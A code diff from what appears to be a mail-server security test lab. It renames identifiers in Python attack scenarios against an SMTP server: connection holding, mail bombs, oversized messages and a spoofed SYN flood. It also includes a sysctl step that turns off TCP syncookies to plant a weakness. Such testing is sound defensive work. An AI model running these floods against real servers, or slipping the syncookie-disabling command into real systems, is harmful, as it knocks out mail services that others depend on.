@@ -1,4 +1,4 @@
-"""A-DOS: taking the door away from those who knock politely (essay 3.1.3)."""
+"""A-DOS: keeping honest clients out (essay 3.1.3)."""
 
 from __future__ import annotations
 
@@ -11,7 +11,7 @@ import time
 from collections.abc import Sequence
 
 from outpost_lab.attack.evidence import Evidence
-from outpost_lab.attack.ground import HELLO, LINE, Ground, letter, token
+from outpost_lab.attack.ground import HELLO, LINE, Ground, compose, token
 from outpost_lab.attack.registry import attack
 from outpost_lab.attack.weakness import Weakness, edited, postfix
 from outpost_lab.attack.wire import CLOSED, SILENT, Reply, Session, syn, unverified
@@ -85,7 +85,7 @@ async def _hold(ground: Ground, seen: Evidence, *, slowly: bool) -> None:
 
     async def one(source: str) -> None:
         try:
-            streams = await ground.internet.connect(ground.door, 25, source=source, patience=30)
+            streams = await ground.internet.connect(ground.edge, 25, source=source, patience=30)
         except (OSError, TimeoutError):
             return
         session = Session(streams)
@@ -136,7 +136,7 @@ async def sessions_from_all_over_one_ipv6_network(ground: Ground, seen: Evidence
     held: list[Session] = []
 
     async def one(source: str) -> bool:
-        session = await ground.smtp(seen, source=source, address=ground.door6, hello=False, patience=30)
+        session = await ground.smtp(seen, source=source, address=ground.edge6, hello=False, patience=30)
         held.append(session)
         return session.greeting.code == 220
 
@@ -166,7 +166,7 @@ async def sessions_of_a_few_addresses_each_within_its_limit(ground: Ground, seen
     async def one(source: str) -> None:
         while True:
             with contextlib.suppress(OSError, TimeoutError):
-                session = Session(await ground.internet.connect(ground.door, 25, source=source))
+                session = Session(await ground.internet.connect(ground.edge, 25, source=source))
                 held.append(session)
                 while (await session.reply(patience=120)).code not in (CLOSED, SILENT):
                     pass  # the attacker says nothing
@@ -217,7 +217,7 @@ async def a_bomb_by_way_of_the_backup_mx(ground: Ground, seen: Evidence) -> None
     async with await ground.smtp(seen, ground.peer, port=peer.listen, patience=120) as session:
         await session.starttls(ground.role("mta").fqdn, unverified(), HELLO)
         for _ in range(most + 10):
-            message = letter("stranger@internet.test", recipient, mark)
+            message = compose("stranger@internet.test", recipient, mark)
             last = await session.deliver("stranger@internet.test", recipient, message)
             if not last.good:
                 break
@@ -274,7 +274,7 @@ async def messages_too_large(ground: Ground, seen: Evidence) -> None:
         seen.expect(said, "552 5.3.4", what="declared")
         await session.say("RSET")
         await session.envelope("stranger@internet.test", ground.someone(2))
-        body = letter("stranger@internet.test", ground.someone(2), token())
+        body = compose("stranger@internet.test", ground.someone(2), token())
         body += LINE * (limit // len(LINE) + 2000)
         seen.expect(await session.message(body), "552 5.3.4", "closed", what="undeclared")
 
@@ -302,7 +302,7 @@ async def mail_while_the_queue_volume_is_full(ground: Ground, seen: Evidence) ->
 async def a_mail_bomb_to_one_user(ground: Ground, seen: Evidence) -> None:
     """To dave, whose mailbox is small: it ends at a rate or at the quota, and nobody gets a bounce."""
     recipient, victim, mark = f"dave@{ground.domain}", ground.victim(), token()
-    message = letter(victim, recipient, mark) + LINE * (BOMB_SIZE // len(LINE))
+    message = compose(victim, recipient, mark) + LINE * (BOMB_SIZE // len(LINE))
     answers: list[Reply] = []
 
     async def some(count: int) -> None:
@@ -350,7 +350,7 @@ NO_COOKIES = Weakness(
     role="mta",
     what="net.ipv4.tcp_syncookies=0, a short queue of half-open connections",
     keeps=(),
-    # whom the kernel has met before it lets in all the same: forgotten, and not learnt anew meanwhile
+    # whom the kernel has met before it lets in all the same: forgotten, and not learnt again meanwhile
     steps="sysctl -qw net.ipv4.tcp_syncookies=0 net.ipv4.tcp_max_syn_backlog=128 net.ipv4.tcp_no_metrics_save=1; "
     "ip tcp_metrics flush",
     activate="true",
@@ -369,7 +369,7 @@ async def half_open_connections(ground: Ground, seen: Evidence) -> None:
 
     async def flood() -> None:
         for number in range(HALF_OPEN):
-            raw.sendto(syn(chance.choice(nobody), ground.door, 25, number), (ground.door, 0))
+            raw.sendto(syn(chance.choice(nobody), ground.edge, 25, number), (ground.edge, 0))
             if number % 50 == 0:
                 await asyncio.sleep(0.05)
 
